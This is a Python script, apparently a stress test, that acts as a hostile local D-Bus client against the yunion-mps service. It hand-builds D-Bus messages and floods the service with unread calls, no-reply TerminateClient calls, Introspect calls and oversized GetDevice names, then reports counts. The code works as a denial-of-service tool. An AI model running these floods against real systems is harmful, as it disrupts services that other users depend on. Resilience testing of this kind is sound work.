"""A member of the group yunion-mps who means harm, on the bus at SOCKET: attack.py SOCKET KIND CONNECTIONS SECONDS.

Speaks D-Bus by hand, since a library would wait, read and stop. Ends by itself, and prints what it did as JSON.
"""

import json
import os
import select
import socket
import struct
import sys
import time

NAME = b"io.yunion.Mps1"
ROOT = b"/io/yunion/Mps1"
MANAGER = ROOT + b"/Manager"
LISTS = [
    (ROOT, b"org.freedesktop.DBus.ObjectManager", b"GetManagedObjects"),
    (MANAGER, b"io.yunion.Mps1.Manager", b"ListDevices"),
    (MANAGER, b"io.yunion.Mps1.Manager", b"ListGpus"),
]
# The calls that wait for an answer. The bus allows 128 for each connection; a debug build takes 0.1 s for some.
WINDOW = 8
# The same of a connection that reads no answer.
UNREAD = 40
# The calls without which it is no attack, however busy the machine is.
ENOUGH = 21
# A caller that does not wait for answers could keep the bus itself busy for all, and the service can't prevent that.
CALLS_A_SECOND = 4000


def pad(data, to=8):
    return data + b"\0" * (-len(data) % to)


def field(code, kind, value):
    size = bytes([len(value)]) if kind == b"g" else struct.pack("<I", len(value))
    return bytes([code, 1]) + kind + b"\0" + size + value + b"\0"


def call(serial, path, interface, member, signature=b"", body=b"", flags=0, destination=NAME):
    fields = b""
    for code, kind, value in [(1, b"o", path), (2, b"s", interface), (3, b"s", member), (6, b"s", destination)]:
        fields = pad(fields) + field(code, kind, value)
    if signature:
        fields = pad(fields) + field(8, b"g", signature)
    head = struct.pack("<BBBBIII", ord("l"), 1, flags, 1, len(body), serial, len(fields))
    return pad(head + fields) + body


class Connection:
    def __init__(self, path):
        self.socket = socket.socket(socket.AF_UNIX)
        self.socket.connect(path)
        uid = str(os.getuid()).encode().hex().encode()
        self.socket.sendall(b"\0AUTH EXTERNAL " + uid + b"\r\n")
        self.socket.recv(4096)
        bus = (b"/org/freedesktop/DBus", b"org.freedesktop.DBus", b"Hello")
        self.socket.sendall(b"BEGIN\r\n" + call(1, *bus, destination=b"org.freedesktop.DBus"))
        self.socket.recv(4096)
        self.socket.setblocking(False)
        self.serial = 1
        self.out = b""
        self.inside = b""
        self.sent = self.answers = self.refused = self.bytes = 0

    def next(self):
        self.serial += 1
        return self.serial

    def flush(self):
        """Whether all has been sent."""
        try:
            while self.out:
                self.out = self.out[self.socket.send(self.out):]
        except BlockingIOError:
            return False
        return True

    def read(self):
        try:
            data = self.socket.recv(1 << 20)
        except BlockingIOError:
            return
        if not data:
            raise ConnectionError
        self.inside += data
        while len(self.inside) >= 16:
            kind, body, fields = self.inside[1], *struct.unpack("<I4xI", self.inside[4:16])
            size = 16 + fields + -fields % 8 + body
            if len(self.inside) < size:
                return
            self.inside = self.inside[size:]
            self.bytes += size
            self.answers += kind in (2, 3)
            self.refused += kind == 3


def flood(connections, seconds, reads, calls, flags=0):
    begin = time.monotonic()
    while time.monotonic() < begin + seconds or sum(one.sent for one in connections) < ENOUGH:
        busy = False
        for one in connections:
            if reads:
                one.read()
            if not reads and one.sent >= (time.monotonic() - begin) * CALLS_A_SECOND / len(connections):
                continue
            # Without an answer it can't be known which calls still wait for one.
            waiting = one.sent - one.answers if flags == 0 else 0
            if one.flush() and waiting < (WINDOW if reads else UNREAD):
                serial = one.next()
                one.out = calls(serial, flags)
                one.sent += 1
                busy |= one.flush()
        if not busy or not reads:
            select.select([one.socket for one in connections] if reads else [], [], [], 0.005)


def main():
    path, kind, count, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    lists = lambda serial, flags: call(serial, *LISTS[serial % len(LISTS)], flags=flags)
    introspect = lambda serial, flags: call(
        serial, b"/", b"org.freedesktop.DBus.Introspectable", b"Introspect", flags=flags)
    terminate = lambda serial, flags: call(
        serial, MANAGER, b"io.yunion.Mps1.Manager", b"TerminateClient", b"u", struct.pack("<I", os.getpid()), flags)
    name = b"\1" * (7 << 20)
    long_name = lambda serial, flags: call(
        serial, MANAGER, b"io.yunion.Mps1.Manager", b"GetDevice", b"s",
        struct.pack("<I", len(name)) + name + b"\0", flags)
    connections = [Connection(path) for _ in range(count)]
    started = time.monotonic()
    if kind == "read":
        flood(connections, seconds, True, lists)
    elif kind == "introspect":
        flood(connections, seconds, True, introspect)
    elif kind == "no-read":
        flood(connections, seconds, False, lists)
    elif kind == "no-reply":
        flood(connections, seconds, False, terminate, flags=1)
    elif kind == "long-name":
        flood(connections, seconds, True, long_name)
    else:
        sys.exit(f"no such kind: {kind}")
    total = lambda what: sum(getattr(one, what) for one in connections)
    print(json.dumps({
        "calls": total("sent"), "answers": total("answers"), "refused": total("refused"),
        "MiB": total("bytes") >> 20,
        "seconds": round(time.monotonic() - started, 1),
    }))


main()
